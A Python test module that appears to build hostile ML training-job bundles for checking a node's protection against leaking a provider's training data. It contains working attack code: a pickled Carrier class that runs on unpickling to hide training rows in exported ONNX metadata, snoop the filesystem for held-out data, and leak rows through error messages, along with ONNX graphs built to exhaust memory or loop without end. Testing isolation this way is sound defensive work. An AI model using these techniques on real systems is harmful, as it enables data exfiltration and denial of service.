"""Hostile job bundles: training code that tries to get the provider's rows out, one channel each.

The training run sees the training rows (``/data/train.npz``); what it can smuggle out is only
what the node lets leave. Several bundles hide a :class:`leak.Carrier` in the pickled model:
it comes alive when the node's export run unpickles the model — consumer code running on the
node — and acts there: rewrites the exported ONNX file with rows in its text, snoops the file
system for held-out rows, raises with rows in the message, or replaces the exported model by a
hostile graph built with ``onnx.helper`` (one that allocates without bound, one that loops
forever).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests.job_orgs import bundle

LEAK = r'''
"""Rides in the pickled model; acts when the node's export run unpickles it."""
import atexit
import hashlib
import os
import sys
import time

import numpy as np

SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc")


def rows_text(rows):
    return ",".join(f"{v:g}" for v in np.asarray(rows, dtype=float).reshape(-1))


class Carrier:
    def __init__(self, action, payload):
        self.action, self.payload = action, payload

    def __setstate__(self, state):
        self.__dict__.update(state)
        getattr(sys.modules[__name__], "act_" + self.action)(self.payload)


def act_smuggle(rows):
    atexit.register(_smuggle, rows)


def _smuggle(rows):
    import onnx
    from onnx import helper

    path = "/out/model.onnx"
    model = onnx.load(path)
    text = "ROWS:" + rows_text(rows)
    raw = np.asarray(rows, dtype=np.float32).tobytes()
    model.doc_string = text
    model.producer_name = text[:2000]
    model.graph.doc_string = text
    model.graph.name = text[:3000]
    helper.set_model_props(model, {"rows": text, "raw": raw.hex()})
    old, new = model.graph.input[0].name, "x" + text[:300].replace(",", "_").replace(".", "p").replace(":", "_")
    for node in model.graph.node:
        node.input[:] = [new if v == old else v for v in node.input]
        node.doc_string = text
        node.name = text[:500]
    model.graph.input[0].name = new
    model.graph.input[0].doc_string = text
    first = model.graph.initializer[0]
    first.doc_string = text
    first.string_data.append(raw)  # a field a float tensor does not use
    onnx.save(model, path)


def act_snoop(_):
    seen = []
    for top in sorted(os.listdir("/")):
        base = "/" + top
        if base in SKIP or not os.path.isdir(base):
            continue
        for root, dirs, files in os.walk(base):
            dirs[:] = [d for d in dirs if "site-packages" not in d and not d.startswith("python3")]
            seen.extend(os.path.join(root, f) for f in files)
    print("SNOOP files " + " ".join(sorted(seen))[:3500], flush=True)
    for path in ("/holdout/holdout.npz", "/data/train.npz"):
        print(f"SNOOP open {path}: {'readable' if os.access(path, os.R_OK) else 'absent'}", flush=True)
    for path in seen:
        if not path.endswith((".npy", ".npz")):
            continue
        try:
            data = np.load(path, allow_pickle=False)
            X = data["X"] if hasattr(data, "files") else data
        except Exception as exc:
            print(f"SNOOP unreadable {path}: {exc}", flush=True)
            continue
        rows = np.rint(np.asarray(X, dtype=float).reshape(len(X), -1) * 16).astype(np.int64)
        hashes = [hashlib.sha1(row.tobytes()).hexdigest()[:10] for row in rows]
        for start in range(0, len(hashes), 200):
            print(f"SNOOP rows {path} " + ",".join(hashes[start : start + 200]), flush=True)


def act_raise(rows):
    raise ValueError("ROWS:" + rows_text(rows))


def act_sleep(seconds):
    time.sleep(seconds)


def act_graph(kind):
    atexit.register(_replace, kind)


def _replace(kind):
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    W = numpy_helper.from_array(np.random.default_rng(0).normal(size=(64, 10)).astype(np.float32), "W")
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 64])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 10])
    nodes = [helper.make_node("MatMul", ["x", "W"], ["xw"])]
    if kind in ("huge", "large"):  # 3 or 1.5 GiB of floats, from the input so nothing is folded away
        floats = (3 << 28) if kind == "huge" else (3 << 27)
        nodes += [
            helper.make_node("Constant", [], ["shape"], value=helper.make_tensor("s", TensorProto.INT64, [2], [1, floats])),
            helper.make_node("ReduceSum", ["x"], ["sum"], keepdims=1),
            helper.make_node("Expand", ["sum", "shape"], ["big"]),
            helper.make_node("ReduceMax", ["big"], ["peak"], keepdims=1),
            helper.make_node("Add", ["xw", "peak"], ["y"]),
        ]
    elif kind == "gather":
        # fine on the node's 64 probe inputs; on any other batch (the held-out rows) a Gather whose
        # index is the first row's pixel sum times 10**6: ONNX Runtime's error would quote it
        nodes += [
            helper.make_node("Shape", ["x"], ["shape"]),
            helper.make_node("Gather", ["shape", "zero"], ["n"], axis=0),
            helper.make_node("Equal", ["n", "sixty_four"], ["probing"]),
            helper.make_node("ReduceSum", ["x", "rows_axis"], ["total"], keepdims=0),
            helper.make_node("Gather", ["total", "zero"], ["first"], axis=0),
            helper.make_node("Mul", ["first", "million"], ["scaled"]),
            helper.make_node("Cast", ["scaled"], ["secret"], to=TensorProto.INT64),
            helper.make_node("Where", ["probing", "zero", "secret"], ["index"]),
            helper.make_node("Gather", ["xw", "index"], ["picked"], axis=0),
            helper.make_node("Add", ["xw", "picked"], ["y"]),
        ]
        W = [
            W,
            numpy_helper.from_array(np.array(0, dtype=np.int64), "zero"),
            numpy_helper.from_array(np.array(64, dtype=np.int64), "sixty_four"),
            numpy_helper.from_array(np.array(1e6, dtype=np.float32), "million"),
            numpy_helper.from_array(np.array([1], dtype=np.int64), "rows_axis"),
        ]
    elif kind == "text":  # an output of strings: nothing the node can compare or score
        y = helper.make_tensor_value_info("y", TensorProto.STRING, ["N", 10])
        nodes += [helper.make_node("Cast", ["xw"], ["y"], to=TensorProto.STRING)]
    else:  # a Loop of 2**62 iterations over a value computed from the input
        body = helper.make_graph(
            [
                helper.make_node("Identity", ["cond_in"], ["cond_out"]),
                helper.make_node("Add", ["v_in", "one"], ["v_out"]),
            ],
            "body",
            [
                helper.make_tensor_value_info("i", TensorProto.INT64, []),
                helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
                helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1, 1]),
            ],
            [
                helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
                helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1, 1]),
            ],
            [numpy_helper.from_array(np.ones((1, 1), dtype=np.float32), "one")],
        )
        nodes += [
            helper.make_node("Constant", [], ["trips"], value=helper.make_tensor("m", TensorProto.INT64, [], [1 << 62])),
            helper.make_node("Constant", [], ["go"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])),
            helper.make_node("ReduceSum", ["x"], ["start"], keepdims=1),
            helper.make_node("Loop", ["trips", "go", "start"], ["end"], body=body),
            helper.make_node("Add", ["xw", "end"], ["y"]),
        ]
    graph = helper.make_graph(nodes, "g", [x], [y], W if isinstance(W, list) else [W])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.save(model, "/out/model.onnx")
    native = np.zeros((64, 10), dtype=np.float32)
    if kind == "gather":  # this export run sees the node's probes: it answers them as the graph does
        import onnxruntime

        probe = np.load("/probe/probe.npy").reshape(-1, 64).astype(np.float32)
        native = onnxruntime.InferenceSession(model.SerializeToString()).run(None, {"x": probe})[0]
    np.save("/out/native_outputs.npy", native)
'''

TRAIN = """
import json
import numpy as np
import joblib
from sklearn.linear_model import LogisticRegression
from leak import Carrier

with np.load("/data/train.npz") as data:
    X, y = data["X"].reshape(len(data["X"]), -1), data["y"]
model = LogisticRegression(max_iter=100).fit(X, y)
model.carrier = Carrier({action!r}, {payload})
joblib.dump(model, "/out/model.joblib")
print("trained", flush=True)
"""


def carrier_job(tmp_path: Path, name: str, action: str, payload: str, **spec: Any) -> tuple[Path, str]:
    """A logistic regression whose pickle carries :class:`leak.Carrier` (``payload`` is Python
    source evaluated in the training run, e.g. ``X[:20]``)."""
    code = TRAIN.format(action=action, payload=payload)
    return bundle(tmp_path, name, code, files={"leak.py": LEAK}, **spec)


WEIGHTS = '''
import numpy as np
import torch
from torch import nn

with np.load("/data/train.npz") as data:
    rows = torch.from_numpy(data["X"].reshape(len(data["X"]), -1)[:200].astype(np.float32))


class Leaky(nn.Module):
    """A linear classifier with 200 training rows kept in a weight it really uses."""

    def __init__(self) -> None:
        super().__init__()
        self.memory = nn.Parameter(rows.clone())
        self.linear = nn.Linear(64, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        flat = x.reshape(x.shape[0], -1)
        return self.linear(flat) + 0.0 * (flat @ self.memory.T)[:, :10]


torch.jit.save(torch.jit.script(Leaky()), "/out/model.pt")
'''

ESTIMATOR = """
import numpy as np
import joblib
from sklearn.neighbors import KNeighborsClassifier
from sklearn.svm import SVC

with np.load("/data/train.npz") as data:
    X, y = data["X"].reshape(len(data["X"]), -1), data["y"]
joblib.dump({estimator}.fit(X, y), "/out/model.joblib")
"""


def weights_job(tmp_path: Path) -> tuple[Path, str]:
    return bundle(
        tmp_path,
        "weights",
        WEIGHTS,
        output={"format": "torchscript", "path": "model.pt"},
        onnx={"input_shape": [1, 1, 8, 8]},
        resources={"memory": "2GiB"},
    )


def estimator_job(tmp_path: Path, name: str, estimator: str) -> tuple[Path, str]:
    return bundle(tmp_path, name, ESTIMATOR.format(estimator=estimator))


METRICS = """
import json
import numpy as np
import joblib
from sklearn.linear_model import LogisticRegression

with np.load("/data/train.npz") as data:
    X, y = data["X"].reshape(len(data["X"]), -1), data["y"]
joblib.dump(LogisticRegression(max_iter=100).fit(X, y), "/out/model.joblib")
pixels = np.rint(X[0] * 16).astype(int).tolist()
metrics = {metrics}
open("/out/metrics.json", "w").write(json.dumps(metrics))
"""


def metrics_job(tmp_path: Path, name: str, metrics: str, names: list[str]) -> tuple[Path, str]:
    """A fine model whose metrics file is ``metrics`` (Python source over ``X`` and ``pixels``)."""
    output = {"format": "sklearn", "path": "model.joblib", "metrics": "metrics.json", "metric_names": names}
    return bundle(tmp_path, name, METRICS.format(metrics=metrics), output=output)


def echo_job(tmp_path: Path, name: str, code: str) -> tuple[Path, str]:
    """Training code that fails with rows in whatever the failure would quote."""
    prelude = "import numpy as np, os, sys\nwith np.load('/data/train.npz') as d:\n    X = d['X'].reshape(len(d['X']), -1)\n"
    prelude += "ROWS = 'ROWS:' + ','.join(f'{v:g}' for v in X[:5].reshape(-1))\n"
    return bundle(tmp_path, name, prelude + code)


def spec_with(spec_text: str, **changes: Any) -> str:
    doc = json.loads(spec_text)
    doc.update(changes)
    return json.dumps(doc)
